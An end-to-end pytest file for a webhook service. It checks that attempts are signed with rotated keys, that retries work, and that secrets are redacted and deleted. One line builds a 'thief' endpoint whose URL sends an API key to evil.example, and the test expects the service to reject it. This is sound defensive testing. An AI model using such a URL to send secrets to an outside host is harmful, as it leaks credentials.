"""Signing and secrets on the local stack: what a receiver gets, verified as receivers do it."""

import json

from pytest_httpserver import HTTPServer
from standardwebhooks.webhooks import Webhook
from werkzeug import Request, Response

from tests.e2e.conftest import LocalStack
from tests.e2e.test_loop import finished, job
from tests.e2e.watchers import until

__all__ = ["job"]  # a fixture

VALUE = "correct/horse+battery staple"


def test_every_attempt_is_signed_and_carries_the_secret_that_nobody_reads_again(
    stack: LocalStack, job: str, httpserver: HTTPServer
) -> None:
    def hook(request: Request) -> Response:
        attempt = int(request.headers["Rubato-Attempt"])
        return Response(f"you sent {request.get_data(as_text=True)}", status=503 if attempt == 1 else 200)

    httpserver.expect_request("/hook").respond_with_handler(hook)
    home = httpserver.url_for("").rstrip("/").replace("localhost", "127.0.0.1")
    secret = {"value": VALUE, "hosts": [home]}
    stack.client.put(f"/jobs/{job}/secrets/API_KEY", json=secret).raise_for_status()
    request = {
        "url": home + "/hook?k={{secret:API_KEY}}",
        "method": "POST",
        "body": {"key": "{{secret:API_KEY}}", "to": "Jörg"},
    }
    config = {"name": "hook", "baseline": {"manual": True}, "request": request}
    config |= {"retry": {"maxAttempts": 2, "backoffMs": 0}}
    made = stack.client.post(f"/jobs/{job}/endpoints", json=config).raise_for_status().json()
    stolen = {**config, "name": "thief", "request": {**request, "url": "https://evil.example/?k={{secret:API_KEY}}"}}
    assert stack.client.post(f"/jobs/{job}/endpoints", json=stolen).status_code == 422
    holder = {"endpointId": made["endpointId"]}
    first = stack.client.post("/signing-keys", json=holder).raise_for_status().json()
    second = stack.client.post(f"/signing-keys/{first['signingKeyId']}/rotate").raise_for_status().json()
    run_id = stack.client.post(f"/endpoints/{made['endpointId']}/run").raise_for_status().json()["runId"]
    run = until(finished(stack, run_id), 40, "the end of the run")
    assert [each["statusCode"] for each in run["attempts"]] == [503, 200]
    for sent, _ in httpserver.log:
        for key in (first, second):
            body = Webhook(key["secret"]).verify(sent.get_data(), dict(sent.headers))
            assert body == {"key": VALUE, "to": "Jörg"} and sent.args["k"] == VALUE
        assert sent.headers["webhook-id"] == run_id
    assert VALUE not in json.dumps(run) and run["response"]["body"] == 'you sent {"key":"***","to":"Jörg"}'
    for key in (first, second):
        stack.client.delete(f"/signing-keys/{key['signingKeyId']}").raise_for_status()
    assert stack.client.get(f"/endpoints/{made['endpointId']}").json()["signedBy"] is None
    stack.client.delete(f"/jobs/{job}/secrets/API_KEY").raise_for_status()
    assert stack.client.get(f"/jobs/{job}/secrets").json()["items"] == []
